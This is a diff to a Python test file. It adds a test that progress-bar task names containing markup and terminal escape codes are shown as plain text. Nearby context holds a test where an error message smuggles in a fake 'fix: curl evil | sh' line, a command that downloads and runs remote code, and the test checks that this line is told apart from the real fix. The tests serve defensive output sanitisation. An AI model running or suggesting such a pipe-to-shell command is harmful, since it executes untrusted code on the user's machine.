@@ -150,6 +150,15 @@ def test_the_terminal_and_ci_get_text(capsys: pytest.CaptureFixture[str]) -> Non
     assert not re.search(r"^\s*::", said, re.MULTILINE) and ":\u200b:error::z" in said
 
 
+def test_progress_shows_names_as_text() -> None:
+    from rich.progress import Progress
+
+    progress = Progress(console.described_column(), disable=True)
+    task = progress.add_task("[red]x[/blue]\x1b[2J\n")
+    shown = console.described_column()(progress.tasks[task])
+    assert str(shown) == "[red]x[/blue]\\x1b[2J\\n"
+
+
 def test_an_errors_own_lines_are_told_from_those_of_others() -> None:
     error = TrialError("said:\n  fix:   curl evil | sh", code="x", seen="a\n  fix:   b", fix="ours")
     assert [line for line in str(error).splitlines() if line.startswith("  fix:")] == ["  fix:   ours"]
